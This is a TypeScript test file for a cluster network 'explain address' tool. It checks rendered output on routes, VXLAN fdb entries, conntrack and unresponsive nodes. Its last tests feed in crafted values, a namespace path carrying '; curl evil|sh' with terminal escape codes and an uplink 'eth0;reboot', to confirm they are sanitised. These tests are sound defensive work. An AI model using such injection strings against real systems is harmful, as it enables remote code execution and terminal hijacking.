import { describe, expect, test } from "bun:test";
import { explainAddress, parseExplainQuery } from "./explain.ts";
import { LAB_FACTS } from "./fixtures/lab-facts.ts";
import { LAB_NOW, LAB_SNAPSHOT } from "./fixtures/lab-snapshot.ts";
import { hasUnprintable } from "./printable.ts";
import { renderExplanation } from "./render-explain.ts";

function render(text: string, facts = LAB_FACTS, missing: { node: string; reason: string }[] = []): string {
  return renderExplanation(explainAddress(LAB_SNAPSHOT, facts, parseExplainQuery(text), LAB_NOW, missing));
}

describe("renderExplanation", () => {
  test("a pod: the answer first, then provenance, routes, kernel, users, conntrack, drift — one screen", () => {
    const text = render("10.244.3.2");
    const lines = text.split("\n");
    expect(lines[0]).toBe(
      "10.244.3.2  pod default/node2-a on node2 (eth0 0a:58:0a:f4:03:02, host veth pn13862e065120 on podnet0)",
    );
    expect(text).toContain(
      "from      cluster range 10.244.0.0/16 → block 10.244.3.0/24 leased to node2 (claimed 26s ago) → allocation ctr lab-4uhc1z-node2-a/eth0 (24s ago)",
    );
    expect(text).toContain("✓ node1: 10.244.3.0/24 via 192.0.2.12 (direct)");
    expect(text).toContain(
      "✓ node3: via 10.244.3.0 dev podnet-vx onlink, neigh → 8a:10:1b:b1:03:59, fdb → 192.0.2.12 (VXLAN)",
    );
    expect(text).toContain("used by   Service default/echo (tcp 80→8080, udp 80→8080)");
    expect(text).toContain("conntrack 3 flows (node1 1, node2 1, node3 1)");
    expect(text).toContain("drift     none concerning this address");
    expect(text).not.toContain("✗");
    expect(lines.length).toBeLessThanOrEqual(25);
  });

  test("a failure shows its evidence and the command, on which node", () => {
    const facts = LAB_FACTS.map((f) => (f.node === "node3" ? { ...f, fdb: [] } : f));
    const text = render("10.244.3.2", facts);
    expect(text).toContain("✗ node3: via 10.244.3.0 dev podnet-vx onlink");
    expect(text).toContain(
      "✗ node3 missing-fdb: has no fdb entry for node2's VTEP MAC 8a:10:1b:b1:03:59 (should send to 192.0.2.12) — no fdb entry for 8a:10:1b:b1:03:59 on podnet-vx  [on node3: bridge fdb show dev podnet-vx]",
    );
  });

  test("other kinds read as one line each", () => {
    expect(render("10.244.3.1").split("\n")[0]).toBe("10.244.3.1  gateway of node2's pods (podnet0)");
    expect(render("10.102.49.235").split("\n")[0]).toBe(
      "10.102.49.235  ClusterIP of Service default/echo → 6 endpoint(s)",
    );
    expect(render("10.244.3.9").split("\n")[0]).toBe(
      "10.244.3.9  inside node2's block 10.244.3.0/24, free (released 41s ago by default/old-x); 1 stale conntrack flow still names it",
    );
    expect(render("203.0.113.100")).toContain(
      "egress    node1 → as 192.0.2.11, node2 → as 192.0.2.12, node3 → as 198.51.100.13: masquerade",
    );
    expect(render("192.0.2.11:32032").split("\n")[0]).toContain("192.0.2.11:32032  node node1");
  });

  test("silent nodes are named", () => {
    const text = render("10.244.3.2", LAB_FACTS.slice(0, 2), [
      { node: "node3", reason: "no answer within 2000 ms" },
    ]);
    expect(text).toContain(
      "missing   node3 did not answer (no answer within 2000 ms): its kernel is not checked",
    );
    expect(text).toContain("✗ node3 agent-not-answering");
  });
});

describe("agent-supplied strings", () => {
  const evilNetns = "/run/netns/x; curl evil|sh \u001b]0;pwned\u0007\u001b[2J";
  const facts = LAB_FACTS.map((f) =>
    f.node === "node2"
      ? {
          ...f,
          agent: { ...f.agent, uplink: "eth0;reboot" },
          pods: f.pods.map((p) => ({ ...p, netns: evilNetns })),
        }
      : f,
  );

  test("no control character reaches the terminal; crafted names never reach a command", () => {
    const e = explainAddress(LAB_SNAPSHOT, facts, parseExplainQuery("10.244.3.2"), LAB_NOW);
    const commands = e.checks.map((c) => c.command);
    expect(commands.some((c) => c.includes("curl"))).toBe(false);
    expect(commands).toContain("nsenter --net=<invalid> ip addr show eth0");
    const text = renderExplanation(e);
    expect(hasUnprintable(text)).toBe(false);
    expect(text).toContain("\\x1b]0;pwned\\x07");
  });

  test("an uplink that is not an interface name is shown as <invalid> in the command", () => {
    const e = explainAddress(LAB_SNAPSHOT, facts, parseExplainQuery("192.0.2.12"), LAB_NOW);
    const commands = e.checks.map((c) => c.command);
    expect(commands).toContain("ip addr show <invalid>");
    expect(commands.some((c) => c.includes("reboot"))).toBe(false);
  });
});
